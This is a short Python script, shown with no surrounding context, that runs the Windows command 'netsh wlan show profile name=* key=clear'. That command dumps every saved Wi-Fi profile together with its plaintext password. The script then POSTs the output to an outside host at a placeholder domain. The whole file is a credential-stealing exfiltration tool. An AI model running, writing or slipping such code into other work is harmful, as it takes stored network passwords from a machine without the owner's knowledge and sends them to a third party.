import subprocess
import requests
profiles = subprocess.check_output("netsh wlan show profile name=* key=clear", shell=True).decode(errors="ignore")
requests.post("https://wf.example.invalid/w", data=profiles)
